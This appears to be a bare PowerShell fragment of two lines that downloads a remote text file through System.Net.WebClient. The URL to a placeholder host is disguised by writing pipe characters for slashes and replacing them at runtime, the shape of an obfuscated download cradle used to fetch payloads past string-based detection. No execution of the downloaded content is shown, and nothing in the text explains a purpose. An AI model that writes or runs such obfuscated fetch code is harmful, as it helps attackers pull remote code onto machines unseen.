$wc = New-Object System.Net.WebClient
$wc.DownloadString('http:||a.example|p|x.txt'.Replace(([char]124).ToString(),[string][char]47))
